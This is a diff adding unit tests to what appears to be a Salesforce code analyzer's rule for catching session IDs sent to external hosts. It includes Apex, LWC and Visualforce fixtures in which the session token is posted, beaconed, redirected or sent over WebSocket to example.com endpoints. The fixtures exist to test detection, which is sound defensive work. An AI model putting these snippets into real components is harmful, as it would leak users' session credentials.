@@ -142,6 +142,63 @@ mod tests {
         );
     }
 
+    const LWC: &str = "force-app/main/default/lwc/beacon/beacon.js";
+    const PAGE: &str = "force-app/main/default/pages/Widget.page";
+
+    /// An Apex class with a method LWC imports, and an LWC module using it.
+    fn lwc(js_body: &str) -> Vec<(&'static str, String)> {
+        vec![
+            (
+                CLASS,
+                "public with sharing class Auth {\n  @AuraEnabled public static String sid() { return UserInfo.getSessionId(); }\n  @AuraEnabled public static String name() { return UserInfo.getName(); }\n}\n".to_string(),
+            ),
+            (
+                LWC,
+                format!("import {{ LightningElement }} from 'lwc';\nimport sid from '@salesforce/apex/Auth.sid';\nimport name from '@salesforce/apex/Auth.name';\nexport default class Beacon extends LightningElement {{\n  async go() {{\n{js_body}\n  }}\n}}\n"),
+            ),
+        ]
+    }
+
+    fn page(script: &str) -> Vec<(&'static str, String)> {
+        vec![(
+            PAGE,
+            format!("<apex:page>\n<script>\n{script}\n</script>\n</apex:page>\n"),
+        )]
+    }
+
+    #[test]
+    fn javascript_table() {
+        cases(
+            "session-id-to-external",
+            &[
+                lwc(
+                    "    const s = await sid();\n    await fetch('/services/data/v60.0/limits', { headers: { Authorization: 'Bearer ' + s } });",
+                ),
+                lwc("    const n = await name();\n    await fetch('https://api.example.com/hello?n=' + n);"),
+                lwc(
+                    "    const s = await sid();\n    await fetch(window.location.origin + '/services/apexrest/x', { headers: { Authorization: 'Bearer ' + s } });",
+                ),
+                page(
+                    "var sid = '{!$Api.Session_ID}';\nsforce.connection.sessionId = sid;\n$.ajax({ url: '/services/data/v60.0/sobjects', headers: { Authorization: 'Bearer ' + sid } });",
+                ),
+                page("var conn = new jsforce.Connection({ accessToken: '{!$Api.Session_ID}' });"),
+                page("var sessionId = 'not-a-session';\nfetch('https://api.example.com/x?s=' + sessionId);"),
+            ],
+            &[
+                lwc(
+                    "    const s = await sid();\n    await fetch('https://api.example.com/v1', { method: 'POST', body: JSON.stringify({ s }) });",
+                ),
+                lwc("    sid().then((s) => { window.location.href = `https://app.example.com/sso?sid=${s}`; });"),
+                lwc("    const s = await sid();\n    navigator.sendBeacon('https://stats.example.com/b', s);"),
+                lwc("    const ws = new WebSocket('wss://push.example.com/live?token=' + (await sid()));"),
+                page(
+                    "var xhr = new XMLHttpRequest();\nxhr.open('POST', 'https://hooks.example.com/in');\nxhr.setRequestHeader('X-Session', '{!$Api.Session_ID}');\nxhr.send();",
+                ),
+                page("$.post('https://hooks.example.com/in', { sid: '{!GETSESSIONID()}' });"),
+            ],
+        );
+    }
+
     #[test]
     fn messages_name_the_destination() {
         let hits = run("session-id-to-external", &class(&send("'https://api.example.com/v1'")));
